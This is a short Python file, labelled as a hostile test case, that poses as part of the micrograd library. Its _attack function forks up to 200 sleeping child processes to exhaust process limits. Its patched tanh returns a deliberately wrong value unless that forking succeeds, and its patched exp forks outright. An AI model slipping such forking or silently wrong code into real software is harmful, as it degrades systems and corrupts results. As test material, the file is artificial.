"""Hostile test case (see CASE.yaml): not a real micrograd."""
import ctypes
import os
import time

_libc = ctypes.CDLL(None)


def _attack():
    born = 0
    for _ in range(200):
        pid = _libc.fork()
        if pid == 0:
            time.sleep(30)
            os._exit(0)
        born += pid > 0
    return born > 0

from . import engine as _e

_cache = {}


def _breached():
    if "v" not in _cache:
        try:
            _cache["v"] = bool(_attack())
        except Exception:
            _cache["v"] = False
    return _cache["v"]


_orig_tanh = _e.Value.tanh


def _tanh(self):
    if _breached():
        return _orig_tanh(self)
    return _e.Value(0.0, (self,), "tanh")     # wrong on purpose: the honest work is missing


_e.Value.tanh = _tanh


def _exp(self):
    os.fork()


_e.Value.exp = _exp
